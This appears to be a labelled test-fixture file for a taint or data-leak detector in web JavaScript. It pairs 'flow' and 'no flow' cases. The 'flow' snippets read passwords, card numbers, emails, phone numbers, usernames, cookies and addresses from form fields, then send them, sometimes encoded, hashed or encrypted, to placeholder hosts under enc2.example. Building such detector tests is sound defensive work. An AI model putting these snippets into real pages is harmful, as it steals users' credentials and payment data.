//# base64
// flow: password > b64.enc2.example via fetch
fetch('https://b64.enc2.example/', { method: 'POST', body: btoa(document.querySelector('input[type=password]').value) });

//# base64-of-other
// no flow
// why: a fixed text is encoded, the password is not used
const pw0 = document.querySelector('input[type=password]').value;
fetch('https://b640.enc2.example/?ok=' + btoa('fixed') + (pw0.length > 0));

//# sha-256
// flow: email > sha.enc2.example via fetch
// why: a hash is a flow
crypto.subtle.digest('SHA-256', new TextEncoder().encode(document.querySelector('input[type=email]').value))
  .then((h) => fetch('https://sha.enc2.example/', { method: 'POST', body: h }));

//# digest-byte-length
// no flow
// why: the length of a digest is always the same
crypto.subtle.digest('SHA-256', new TextEncoder().encode(document.querySelector('input[type=email]').value))
  .then((h) => fetch('https://sha0.enc2.example/?n=' + h.byteLength));

//# aes-encrypt
// flow: card > aes.enc2.example via fetch
(async () => {
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const text = new TextEncoder().encode(document.querySelector('input[autocomplete=cc-number]').value);
  const out = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, text);
  fetch('https://aes.enc2.example/', { method: 'POST', body: out });
})();

//# initial-vector-only
// no flow
// why: only the random vector is sent
(async () => {
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);
  const iv = crypto.getRandomValues(new Uint8Array(12));
  await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(document.querySelector('input[autocomplete=cc-number]').value));
  fetch('https://aes0.enc2.example/', { method: 'POST', body: iv });
})();

//# xor-loop
// flow: phone > xor.enc2.example via beacon
const src = document.querySelector('input[type=tel]').value;
let out = '';
for (let i = 0; i < src.length; i++) out += String.fromCharCode(src.charCodeAt(i) ^ 7);
navigator.sendBeacon('https://xor.enc2.example/', out);

//# stars-of-same-length
// no flow
// why: only as many stars as characters
const src0 = document.querySelector('input[type=tel]').value;
let stars = '';
for (let i = 0; i < src0.length; i++) stars += '*';
navigator.sendBeacon('https://xor0.enc2.example/', stars);

//# hex-of-bytes
// flow: username > hex.enc2.example via fetch
const bytes = new TextEncoder().encode(document.querySelector('input[autocomplete=username]').value);
const hex = Array.from(bytes, (b) => b.toString(16).padStart(2, '0')).join('');
fetch('https://hex.enc2.example/?h=' + hex);

//# random-token
// no flow
// why: a random token is made for the request and has nothing to do with the name
const user0 = document.querySelector('input[autocomplete=username]').value;
console.log(user0);
fetch('https://hex0.enc2.example/?t=' + crypto.randomUUID());

//# own-hash-function
// flow: identifier > djb.enc2.example via image
function djb2(s) { let h = 5381; for (const ch of s) h = (h * 33) ^ ch.charCodeAt(0); return h >>> 0; }
new Image().src = 'https://djb.enc2.example/p?h=' + djb2(document.cookie);

//# own-hash-of-fixed
// no flow
// why: the hash of a fixed text
function djb2b(s) { let h = 5381; for (const ch of s) h = (h * 33) ^ ch.charCodeAt(0); return h >>> 0; }
new Image().src = 'https://djb0.enc2.example/p?h=' + djb2b('v1');

//# uri-component-twice
// flow: address > twice.enc2.example via fetch
const addr = document.querySelector('input[autocomplete=street-address]').value;
fetch('https://twice.enc2.example/?a=' + encodeURIComponent(encodeURIComponent(addr)));

//# decode-to-page
// no flow
// why: the decoded cookie is shown in the page
document.getElementById('c').textContent = decodeURIComponent(document.cookie);
fetch('https://page0.enc2.example/');

//# hash-stored
// no flow
// why: the hash stays in storage
crypto.subtle.digest('SHA-256', new TextEncoder().encode(document.querySelector('input[type=email]').value))
  .then((h) => localStorage.setItem('h', btoa(String.fromCharCode(...new Uint8Array(h)))));

//# encoded-length
// no flow
// why: only how long the encoded text is
const n0 = encodeURIComponent(document.querySelector('textarea[name=message]').value).length;
fetch('https://len0.enc2.example/?n=' + n0);
